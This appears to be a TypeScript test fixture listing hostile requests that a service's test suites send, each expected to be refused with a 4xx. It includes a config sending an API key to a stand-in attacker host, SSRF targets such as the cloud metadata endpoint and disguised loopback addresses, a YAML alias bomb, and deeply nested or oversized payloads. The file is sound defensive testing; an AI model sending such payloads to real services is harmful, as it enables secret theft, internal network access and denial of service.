/**
 * The attacks of issue 12, as a hostile key holder would send them: one table, run against the Workers pool
 * (test/workers/attacks.test.ts) and against `npm start` (test/core/attacks-service.test.ts). Each must be refused
 * with a 4xx in the error format, fast, with nothing written, while other requests stay fast. No imports from
 * Node: the Workers pool bundles this file too.
 */

export interface Attack {
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
}

/** A config whose target is `endpoint`, with the secret `tokenEnv` sent as a bearer token. */
function httpTarget(endpoint: string, tokenEnv?: string) {
  return {
    api: {
      name: "attack",
      endpoint,
      request: { timeout_seconds: 5 },
      ...(tokenEnv ? { auth: { type: "bearer", token_env: tokenEnv } } : {}),
    },
    search_space: { parameters: { temperature: { type: "float", min: 0, max: 1 } } },
    evaluation: { test_cases: { inline: [{ id: "a", input: { prompt: "hi" } }] }, metrics: { latency_ms: { weight: 1 } } },
    optimization: { seed: 1, evolution: { population_size: 2, generations: 1 } },
  };
}

const mockRun = (parameters: Record<string, unknown>, algorithm = "tpe") => ({
  api: { name: "attack", mock_mode: true },
  search_space: { parameters },
  evaluation: { test_cases: { inline: [{ id: "a", input: { prompt: "hi" } }] }, metrics: { quality: { type: "llm_judge", weight: 1 } } },
  optimization: { seed: 1, algorithm, evolution: { population_size: 4, generations: 2 } },
});

const json = { "content-type": "application/json" };
const yaml = { "content-type": "application/yaml" };

/** ~233 KB of YAML: one anchored list of 20,000 items, aliased 990 times (~200 MB once expanded). */
function aliasBomb(): string {
  const items = Array.from({ length: 20_000 }, (_, i) => `x${i % 10}`).join(", ");
  return `api: {name: bomb, mock_mode: true}\nlist: &l [${items}]\nrefs: [${Array.from({ length: 990 }, () => "*l").join(", ")}]\n`;
}

/** ~229 KB of YAML: 20,000 distinct keys in one mapping (quadratic to check for duplicates the naive way). */
function manyKeys(): string {
  return `api: {name: keys, mock_mode: true}\nextra:\n${Array.from({ length: 20_000 }, (_, i) => `  key_${String(i).padStart(5, "0")}: 1`).join("\n")}\n`;
}

/** `depth` levels of arrays around a value: about 2 bytes a level. */
const nested = (depth: number) => `${"[".repeat(depth)}1${"]".repeat(depth)}`;

/** The attacks, for a service at `origin` (its own host is one of the targets). */
export function attacks(origin: string): Attack[] {
  const host = new URL(origin).host;
  return [
    {
      name: "send a Worker secret to the attacker's host",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget("https://collector.attacker.invalid/steal", "OPENAI_API_KEY")),
    },
    {
      name: "call the service's own API",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget(`${origin}/v1/runs`)),
    },
    {
      name: "call the service's own host by another spelling",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget(`http://${host.toUpperCase()}./v1/systems`)),
    },
    {
      name: "read the cloud metadata endpoint",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget("http://169.254.169.254/latest/meta-data/")),
    },
    {
      name: "reach loopback spelt as a decimal number",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget("http://2130706433:8787/v1/runs")),
    },
    {
      name: "reach loopback as an IPv4-mapped IPv6 address",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(httpTarget("http://[::ffff:127.0.0.1]:8787/v1/runs")),
    },
    {
      name: "start a run from a run's own request",
      method: "POST",
      path: "/v1/runs",
      headers: { ...json, "x-convergence-run": "run-of-a-run" },
      body: JSON.stringify(mockRun({ t: { type: "float", min: 0, max: 1 } }, "random")),
    },
    { name: "expand a YAML alias bomb", method: "POST", path: "/v1/runs", headers: yaml, body: aliasBomb() },
    { name: "parse 20,000 YAML keys", method: "POST", path: "/v1/runs", headers: yaml, body: manyKeys() },
    {
      name: "make tpe propose over two categoricals of 20,000 values",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify(
        mockRun({
          a: { type: "categorical", values: Array.from({ length: 20_000 }, (_, i) => `a${i}`) },
          b: { type: "categorical", values: Array.from({ length: 20_000 }, (_, i) => `b${i}`) },
        }),
      ),
    },
    {
      name: "nest a run config 2,000 levels deep",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: `{"api": {"name": "deep", "mock_mode": true}, "x": ${nested(2_000)}}`,
    },
    {
      name: "nest a runtime config 2,000 levels deep",
      method: "PUT",
      path: "/v1/systems/attack_deep",
      headers: json,
      body: `{"default_arms": [{"arm_id": "a", "params": {"p": ${nested(2_000)}}}]}`,
    },
    {
      name: "nest a select's context 2,000 levels deep",
      method: "POST",
      path: "/v1/systems/attack_deep/select",
      headers: json,
      body: `{"user_id": "u", "context": {"c": ${nested(2_000)}}}`,
    },
    {
      name: "send a run config over the documented 1 MiB",
      method: "POST",
      path: "/v1/runs",
      headers: json,
      body: JSON.stringify({ ...mockRun({ t: { type: "float", min: 0, max: 1 } }), pad: "x".repeat(1024 * 1024) }),
    },
  ];
}

/** Worker vars the attacks need: a secret worth stealing (runs may not name it: RUN_SECRET_NAMES is unset). */
export const ATTACK_SECRET = { name: "OPENAI_API_KEY", value: "sk-attack-test-0123456789" };
